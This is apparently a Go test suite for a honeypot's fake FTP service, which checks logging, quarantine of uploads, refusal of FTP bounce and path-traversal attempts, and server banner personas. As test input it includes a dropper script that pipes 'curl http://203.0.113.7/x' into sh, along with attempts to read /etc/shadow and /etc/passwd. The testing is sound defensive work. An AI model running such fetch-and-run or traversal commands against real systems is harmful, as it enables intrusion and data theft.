package ftp

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/services"
	"github.com/decnet/decnet/internal/services/servicetest"
	"github.com/decnet/decnet/internal/testenv"
)

type server struct {
	addr  string // control connection
	port  int
	evs   *servicetest.Events
	qdir  string
	h     *handler
	pasvs []int
}

// serveFTP runs the service on 127.0.0.1 with a control port and two
// passive ports, all picked by the kernel, as the runtime would bind them.
func serveFTP(t *testing.T, cfg map[string]string) *server {
	t.Helper()
	failDelay = 0
	var lns []net.Listener
	for range 3 {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		lns = append(lns, ln)
	}
	var pasv []string
	var pasvPorts []int
	for _, ln := range lns[1:] {
		p := ln.Addr().(*net.TCPAddr).Port
		pasv = append(pasv, strconv.Itoa(p))
		pasvPorts = append(pasvPorts, p)
	}
	raw := map[string]string{"login_mode": "always", "pasv_ports": strings.Join(pasv, ",")}
	for k, v := range cfg {
		raw[k] = v
	}
	validated, err := Service{}.Schema().Validate(raw)
	if err != nil {
		t.Fatal(err)
	}
	d := model.Decky{Name: "files-01", Hostname: "files-01", Distro: "debian", Seed: 42, IP: "127.0.0.1"}
	env, evs := servicetest.NewEnv(Service{}, d, validated)
	qdir := t.TempDir()
	q, err := services.OpenQuarantine(qdir, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	env.Quarantine = q
	h, err := Service{}.New(env)
	if err != nil {
		t.Fatal(err)
	}
	for _, ln := range lns {
		servicetest.ServeListener(t, h, env, ln)
	}
	return &server{addr: lns[0].Addr().String(), port: lns[0].Addr().(*net.TCPAddr).Port, evs: evs, qdir: qdir,
		h: h.(*handler), pasvs: pasvPorts}
}

// baitFile is one of the seeded archives of the decky.
func (s *server) baitFile(t *testing.T) *file {
	t.Helper()
	for _, f := range s.h.tree.dirs["/"] {
		if strings.HasSuffix(f.name, ".tar.gz") {
			return f
		}
	}
	t.Fatal("no archive in the bait tree")
	return nil
}

func TestCurlLoginListRetrAndStor(t *testing.T) {
	curl := testenv.Binary(t, "curl")
	s := serveFTP(t, map[string]string{"banner": "220 (vsFTPd 3.0.5)"})
	base := fmt.Sprintf("ftp://127.0.0.1:%d/", s.port)

	out, err := exec.Command(curl, "-sS", "--max-time", "20", "-u", "backup:Summer2024!", base).CombinedOutput()
	if err != nil {
		t.Fatalf("curl LIST: %v\n%s", err, out)
	}
	bait := s.baitFile(t)
	if !strings.Contains(string(out), bait.name) || !strings.Contains(string(out), "README.txt") ||
		strings.Contains(string(out), ".htaccess") {
		t.Errorf("listing lacks the bait files or shows dot files:\n%s", out)
	}

	got := filepath.Join(t.TempDir(), "got.tar.gz")
	if out, err := exec.Command(curl, "-sS", "--max-time", "20", "-u", "anonymous:x@y.z", "-o", got, base+bait.name).CombinedOutput(); err != nil {
		t.Fatalf("curl RETR: %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(got); string(b) != string(bait.data) {
		t.Errorf("RETR gave %d bytes, want the %d of the archive", len(b), len(bait.data))
	}

	payload := []byte("#!/bin/sh\ncurl http://203.0.113.7/x | sh\n")
	up := filepath.Join(t.TempDir(), "dropper.sh")
	os.WriteFile(up, payload, 0o600)
	if out, err := exec.Command(curl, "-sS", "--max-time", "20", "-u", "backup:Summer2024!", "-T", up, base+"incoming.sh").CombinedOutput(); err != nil {
		t.Fatalf("curl STOR: %v\n%s", err, out)
	}

	auth := s.evs.Wait(t, "auth_attempt", 3)
	a := auth[0]
	if a.Fields["principal"] != "backup" || a.Fields["secret_printable"] != "Summer2024!" || a.Fields["secret_kind"] != "plaintext" ||
		a.Fields["secret_b64"] == "" || a.Fields["outcome"] != "success" || a.SrcIP != "127.0.0.1" {
		t.Errorf("auth_attempt %+v", a)
	}
	// The original's ftp user/auth_attempt events carried no source
	// address (fleet.md §1.3); every event here does.
	if u := s.evs.Wait(t, "user", 1)[0]; u.Fields["username"] != "backup" || u.SrcIP != "127.0.0.1" {
		t.Errorf("user event %+v", u)
	}
	dl := s.evs.Wait(t, "download_attempt", 1)[0]
	if dl.Fields["path"] != "/"+bait.name || dl.Fields["found"] != "true" || dl.Fields["size"] != strconv.Itoa(len(bait.data)) {
		t.Errorf("download_attempt %+v", dl.Fields)
	}
	fc := s.evs.Wait(t, "file_captured", 1)[0]
	sum := sha256.Sum256(payload)
	if fc.Fields["sha256"] != hex.EncodeToString(sum[:]) || fc.Fields["orig_path"] != "/incoming.sh" ||
		fc.Fields["size"] != strconv.Itoa(len(payload)) || fc.Fields["ftp_user"] != "backup" {
		t.Errorf("file_captured %+v", fc.Fields)
	}
	if b, err := os.ReadFile(filepath.Join(s.qdir, fc.Fields["stored_as"])); err != nil || string(b) != string(payload) {
		t.Errorf("quarantined copy: %v %q", err, b)
	}
}

func TestFtpClientLoginListGetPut(t *testing.T) {
	ftp := testenv.Binary(t, "ftp")
	s := serveFTP(t, map[string]string{"banner": "220 ProFTPD 1.3.7a Server ready."})
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "loot.txt"), []byte("exfil\n"), 0o600)
	bait := s.baitFile(t)
	script := fmt.Sprintf("user anonymous scanner@example.com\nbinary\nls\nget %s\nput loot.txt\nquit\n", bait.name)
	cmd := exec.Command(ftp, "-n", "-p", "-v", "127.0.0.1", strconv.Itoa(s.port))
	cmd.Dir = dir
	cmd.Stdin = strings.NewReader(script)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("ftp: %v\n%s", err, out)
	}
	for _, want := range []string{"220 ProFTPD 1.3.7a Server ready.", "230 Anonymous access granted", bait.name, "226 Transfer complete"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("ftp session lacks %q:\n%s", want, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, bait.name)); string(b) != string(bait.data) {
		t.Errorf("get gave %d bytes, want %d", len(b), len(bait.data))
	}
	a := s.evs.Wait(t, "auth_attempt", 1)[0]
	if a.Fields["principal"] != "anonymous" || a.Fields["anonymous"] != "true" || a.Fields["secret_printable"] != "scanner@example.com" {
		t.Errorf("auth_attempt %+v", a.Fields)
	}
	if fc := s.evs.Wait(t, "file_captured", 1)[0]; fc.Fields["orig_path"] != "/loot.txt" {
		t.Errorf("file_captured %+v", fc.Fields)
	}
	s.evs.Wait(t, "download_attempt", 1)
}

// dial opens a raw control connection and reads the greeting.
func dial(t *testing.T, addr string) *servicetest.ReplyClient {
	t.Helper()
	k := servicetest.DialReply(t, addr)
	k.Read()
	return k
}

func TestBounceAttemptIsRefusedAndRecorded(t *testing.T) {
	s := serveFTP(t, map[string]string{"banner": "220 (vsFTPd 3.0.3)"})
	k := dial(t, s.addr)
	k.Cmd("USER anonymous")
	k.Cmd("PASS a@b")
	if got := k.Cmd("PORT 198,51,100,7,0,25"); !strings.HasPrefix(got, "500 Illegal PORT command.") {
		t.Errorf("PORT to a foreign host: %q", got)
	}
	if got := k.Cmd("EPRT |1|203.0.113.9|8080|"); !strings.HasPrefix(got, "500 ") {
		t.Errorf("EPRT to a foreign host: %q", got)
	}
	if got := k.Cmd("PORT 127,0,0,1,0,22"); !strings.HasPrefix(got, "500 ") {
		t.Errorf("PORT to a privileged port: %q", got)
	}
	if got := k.Cmd("PORT 127,0,0,1,200,10"); !strings.HasPrefix(got, "200 ") {
		t.Errorf("PORT to the client itself: %q", got)
	}
	// The server never connects out, even to the client.
	if got := k.Cmd("LIST"); !strings.HasPrefix(got, "425 ") {
		t.Errorf("LIST in active mode: %q", got)
	}
	b := s.evs.Wait(t, "bounce_attempt", 3)
	if b[0].Fields["target_ip"] != "198.51.100.7" || b[0].Fields["target_port"] != "25" || b[0].Fields["command"] != "PORT" ||
		b[1].Fields["target_ip"] != "203.0.113.9" || b[1].Fields["command"] != "EPRT" || b[2].Fields["reason"] != "privileged port" {
		t.Errorf("bounce attempts %+v %+v %+v", b[0].Fields, b[1].Fields, b[2].Fields)
	}
}

func TestPassiveConnectionFromAnotherAddressIsNotHandedOver(t *testing.T) {
	s := serveFTP(t, nil)
	k := dial(t, s.addr)
	k.Cmd("USER anonymous")
	k.Cmd("PASS a@b")
	got := k.Cmd("EPSV")
	m := regexp.MustCompile(`\(\|\|\|(\d+)\|\)`).FindStringSubmatch(got)
	if m == nil {
		t.Fatalf("EPSV: %q", got)
	}
	// A thief on another loopback address races for the data port.
	thief := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}
	tc, err := thief.Dial("tcp", "127.0.0.1:"+m[1])
	if err != nil {
		t.Fatal(err)
	}
	tc.SetReadDeadline(time.Now().Add(5 * time.Second))
	if n, _ := io.Copy(io.Discard, tc); n != 0 {
		t.Errorf("the thief got %d bytes", n)
	}
	dc, err := net.Dial("tcp", "127.0.0.1:"+m[1])
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(k.Conn, "NLST\r\n")
	dc.SetReadDeadline(time.Now().Add(10 * time.Second))
	names, _ := io.ReadAll(dc)
	if !strings.Contains(string(names), "README.txt") {
		t.Errorf("NLST gave %q", names)
	}
	if r := k.Read() + k.Read(); !strings.Contains(r, "150 ") || !strings.Contains(r, "226 ") {
		t.Errorf("NLST replies %q", r)
	}
}

func TestReadOnlyTreeConfinedToItsRoot(t *testing.T) {
	s := serveFTP(t, nil)
	k := dial(t, s.addr)
	k.Cmd("USER anonymous")
	k.Cmd("PASS a@b")
	for _, step := range [][2]string{
		{"CWD ../../../etc", "550 "}, {"CWD pub", "250 "}, {"PWD", `257 "/pub"`}, {"CDUP", "250 "}, {"PWD", `257 "/"`},
		{"SIZE ../../etc/passwd", "550 "}, {"DELE README.txt", "550 "}, {"MKD x", "550 "}, {"SYST", "215 UNIX Type: L8"},
		{"RETR ../../../etc/shadow", "550 "}, {"XYZZY", "500 "},
	} {
		if got := k.Cmd(step[0]); !strings.HasPrefix(got, step[1]) {
			t.Errorf("%s: %q, want %q…", step[0], got, step[1])
		}
	}
	if d := s.evs.Wait(t, "download_attempt", 1)[0]; d.Fields["path"] != "/etc/shadow" || d.Fields["found"] != "false" {
		t.Errorf("download_attempt %+v", d.Fields)
	}
	if u := s.evs.Wait(t, "unknown_command", 1)[0]; u.Fields["command"] != "XYZZY" {
		t.Errorf("unknown_command %+v", u.Fields)
	}
}

func TestLoginModesAndTheThirdFailureHangsUp(t *testing.T) {
	s := serveFTP(t, map[string]string{"login_mode": "random", "login_success_rate": "0"})
	k := dial(t, s.addr)
	if got := k.Cmd("LIST"); !strings.HasPrefix(got, "530 ") {
		t.Errorf("LIST before login: %q", got)
	}
	for i := range 3 {
		k.Cmd("USER root")
		got := k.Cmd("PASS toor" + strconv.Itoa(i))
		if !strings.HasPrefix(got, "530 ") {
			t.Errorf("PASS %d with rate 0: %q", i, got)
		}
	}
	k.Conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := k.R.ReadByte(); err == nil {
		t.Error("the connection is still open after three failures")
	}
	if a := s.evs.Wait(t, "auth_attempt", 3); a[2].Fields["outcome"] != "failure" {
		t.Errorf("auth attempts %+v", a)
	}
	// Anonymous is the bait: it gets in in random mode whatever the rate.
	k = dial(t, s.addr)
	k.Cmd("USER ftp")
	if got := k.Cmd("PASS x"); !strings.HasPrefix(got, "230 ") {
		t.Errorf("anonymous login: %q", got)
	}

	never := serveFTP(t, map[string]string{"login_mode": "never"})
	k = dial(t, never.addr)
	k.Cmd("USER anonymous")
	if got := k.Cmd("PASS x"); !strings.HasPrefix(got, "530 ") {
		t.Errorf("login_mode never: %q", got)
	}
}

func TestOverlongLineIsAProtocolErrorAndGarbageNeverPanics(t *testing.T) {
	s := serveFTP(t, nil)
	k := dial(t, s.addr)
	fmt.Fprintf(k.Conn, "USER %s\r\n", strings.Repeat("A", 10000))
	if got := k.Read(); !strings.HasPrefix(got, "500 ") {
		t.Errorf("overlong line: %q", got)
	}
	if e := s.evs.Wait(t, "protocol_error", 1)[0]; !strings.Contains(e.Fields["error"], "longer than") {
		t.Errorf("protocol_error %+v", e.Fields)
	}
	junk := make([]byte, 1<<20)
	rng := rand.New(rand.NewPCG(1, 2))
	for i := range junk {
		junk[i] = byte(rng.Uint32())
	}
	servicetest.Drain(t, s.addr, junk, 20*time.Second)
	// The garbage ends as a protocol error (too many bad commands), not
	// as thousands of events.
	s.evs.Wait(t, "protocol_error", 2)
	k = dial(t, s.addr)
	if got := k.Cmd("LIST"); !strings.HasPrefix(got, "530 ") {
		t.Errorf("after garbage, a new client gets %q", got)
	}
	for _, e := range s.evs.OfType("protocol_error") {
		if strings.HasPrefix(e.Fields["error"], "panic") {
			t.Errorf("a handler panicked: %v", e.Fields)
		}
	}
}

func TestPortsBindControlAndPassiveRange(t *testing.T) {
	cfg := Service{}.Schema().Resolve(nil)
	ps := Service{}.Ports(cfg)
	if len(ps) != 11 || ps[0].Number != 21 || ps[1].Number != 30000 || ps[10].Number != 30009 {
		t.Errorf("default ports %v", ps)
	}
	for _, bad := range []string{"80-90", "40000-39000", "x", "30000-40000"} {
		if _, err := parsePorts(bad); err == nil {
			t.Errorf("pasv_ports %q accepted", bad)
		}
	}
	if got, err := parsePorts("40000-40002, 40010"); err != nil || len(got) != 4 || got[3] != 40010 {
		t.Errorf("parsePorts: %v %v", got, err)
	}
}

func TestSeededPersonaIsStablePerDeckyAndPureFTPdIsRecognisable(t *testing.T) {
	seen := map[string]bool{}
	for seed := range uint64(40) {
		rng := rand.New(rand.NewPCG(seed, 7))
		a := pickDialect("", rng).banner(21, time.Unix(0, 0))
		b := pickDialect("", rand.New(rand.NewPCG(seed, 7))).banner(21, time.Unix(0, 0))
		if a != b {
			t.Fatalf("seed %d: banner not stable: %q vs %q", seed, a, b)
		}
		seen[pickDialect("", rand.New(rand.NewPCG(seed, 7))).name] = true
	}
	if len(seen) != 3 {
		t.Errorf("40 seeds picked only %v", seen)
	}
	for name, want := range map[string]string{"vsftpd": "220 (vsFTPd 3.0.", "ProFTPD": "220 ProFTPD 1.3."} {
		if b := pickDialect(name, rand.New(rand.NewPCG(3, 3))).banner(21, time.Now()); !strings.HasPrefix(b, want) {
			t.Errorf("banner %q gave %q", name, b)
		}
	}
	// The spec's "220 Pure-FTPd Service ready." is unrecognisable; the
	// real welcome is what a Pure-FTPd persona sends.
	if b := pickDialect("pure-ftpd", rand.New(rand.NewPCG(1, 1))).banner(21, time.Now()); !strings.HasPrefix(b, "220---------- Welcome to Pure-FTPd") {
		t.Errorf("pure-ftpd banner %q", b)
	}
}

func TestNmapIdentifiesEachPersona(t *testing.T) {
	want := map[string]string{}
	for banner, re := range map[string]string{
		"220 (vsFTPd 3.0.5)":              `ftp\s+vsftpd 3\.0\.5`,
		"220 ProFTPD 1.3.6 Server ready.": `ftp\s+ProFTPD 1\.3\.6`,
		"pure-ftpd":                       `ftp\s+Pure-FTPd`,
	} {
		s := serveFTP(t, map[string]string{"banner": banner})
		want[strconv.Itoa(s.port)] = re
	}
	servicetest.NmapIdentifies(t, "127.0.0.1", want)
}
